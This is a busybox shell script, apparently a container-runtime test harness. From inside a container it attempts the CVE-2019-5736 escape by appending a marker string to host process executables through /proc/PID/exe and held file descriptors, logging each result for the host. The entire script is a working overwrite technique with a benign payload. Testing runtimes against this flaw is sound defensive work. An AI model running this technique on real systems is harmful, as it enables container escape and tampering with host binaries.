# CVE-2019-5736, from inside a container (busybox sh): try to write to the
# executable of every process we can see that is not a file of our own
# rootfs, /proc/self/exe first. For each, write /proc/PID/exe directly
# (ETXTBSY while it runs), and keep a read-only fd to it in a background
# subshell that writes through /proc/self/fd/3 once the process has gone
# (the file is then no longer busy). Everything is logged to /shared/log.
#
#   sh /exe-attack.sh SECONDS [targets]
# Targets: every /proc/PID; with "targets", only the pids the host writes to
# /shared/targets (once it knows them; nothing is tried before). Stops early
# when /shared/stop exists.
LOG=/shared/log
PAYLOAD=PWNED-BY-CONTAINER
log() { echo "$*" >> $LOG; }
self=$$
deadline=$(( $(date +%s) + ${1:-20} ))

if (echo $PAYLOAD >> /proc/self/exe) 2>/dev/null; then log "WROTE self"; else log "refused self"; fi

tried=' '
log "pid $self"
log ready
if [ "$2" = targets ]; then
  while [ ! -e /shared/targets ] && [ "$(date +%s)" -lt "$deadline" ]; do usleep 10000; done
fi
while [ "$(date +%s)" -lt "$deadline" ] && [ ! -e /shared/stop ]; do
  if [ "$2" = targets ]; then pids=$(cat /shared/targets); else pids=$(cd /proc && echo [0-9]*); fi
  for p in $pids; do
    [ "$p" = "$self" ] && continue
    l=$(readlink /proc/$p/exe 2>/dev/null) || l='?'
    case "$l" in /bin/*|/usr/*|/sbin/*) continue ;; esac
    case "$tried" in *" $p:$l "*) continue ;; esac
    tried="$tried$p:$l "
    # An unreadable link: a process we may not inspect (or one already gone);
    # logged only when the host named it, tried either way.
    [ "$l" != '?' ] || [ "$2" = targets ] && log "target $p $l"
    if (echo $PAYLOAD >> /proc/$p/exe) 2>/dev/null; then log "WROTE direct $p $l"; fi
    (
      (: < /proc/$p/exe) 2>/dev/null || { [ "$l" != '?' ] || [ "$2" = targets ] && log "no-fd $p $l"; exit 0; }
      exec 3< /proc/$p/exe
      log "grabbed $p $l"
      while readlink /proc/$p/exe > /dev/null 2>&1 && [ ! -e /shared/stop ] && [ "$(date +%s)" -lt "$deadline" ]; do usleep 10000; done
      # "refused" only counts once the process is gone, and after retrying for
      # 2 s: other processes (the runtime's own) may still run the same file.
      if readlink /proc/$p/exe > /dev/null 2>&1; then busy=-busy; else busy=''; fi
      n=0
      until (echo $PAYLOAD >> /proc/self/fd/3) 2>/dev/null; do
        n=$((n + 1))
        if [ $n -ge 40 ] || [ -n "$busy" ]; then log "refused$busy $p $l"; exit 0; fi
        usleep 50000
      done
      log "WROTE $p $l"
    ) 2>/dev/null &
  done
  usleep 5000
done
wait
log done
